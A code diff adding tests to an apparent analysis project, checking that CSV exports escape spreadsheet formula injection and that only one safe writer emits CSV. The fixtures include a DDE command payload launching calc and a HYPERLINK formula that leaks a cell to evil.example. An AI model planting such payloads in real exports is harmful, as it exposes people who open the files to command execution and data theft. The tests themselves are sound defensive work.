@@ -118,3 +118,37 @@ def test_unbalanced_quote_costs_one_record_not_three(cases):
     assert [k for k, v in got.items() if v == "ok"] == ["a", "c", "d", "e"]
     (bad,) = [v for v in got.values() if v != "ok"]
     assert status_kind(bad) == "malformed" and "line 3" in bad and "quote" in bad
+
+
+def _csv_cells(path: Path) -> list[str]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [c for row in csv.reader(fh) for c in row]
+
+
+def test_formula_outlets_are_escaped_in_csv_and_numbers_stay_numbers(cases, tmp_path):
+    from analysis import clean
+    from analysis.tables import FORMULA_STARTS, write_table
+
+    articles, _, _ = clean.build_articles(cases / "csv_formula", progress=False)
+    assert set(articles["outlet"].dropna()) >= {"+cmd|' /C calc'!A0", "@SUM(1+1)"}, "the table keeps the value"
+    frame = articles[["article_id", "outlet", "n_words"]].assign(neg=-3, text_number="-12")
+    write_table(frame, tmp_path / "a.csv")
+    cells = _csv_cells(tmp_path / "a.csv")
+    risky = [c for c in cells if c.startswith(FORMULA_STARTS) and c not in ("-3", "-12")]
+    assert risky == []
+    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")" in cells
+    back = __import__("pandas").read_csv(tmp_path / "a.csv")
+    assert back["neg"].tolist() == [-3] * len(frame) and back["n_words"].dtype.kind == "i"
+
+
+def test_every_csv_is_written_by_the_one_safe_writer():
+    """No module or notebook writes CSV itself: tables.write_table is the only to_csv call."""
+    import re
+
+    offenders = []
+    for path in list((REPO / "src").rglob("*.py")) + list((REPO / "notebooks").glob("*.ipynb")):
+        for m in re.finditer(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", path.read_text(encoding="utf-8")):
+            offenders.append(path.name)
+    assert offenders == ["tables.py"], offenders
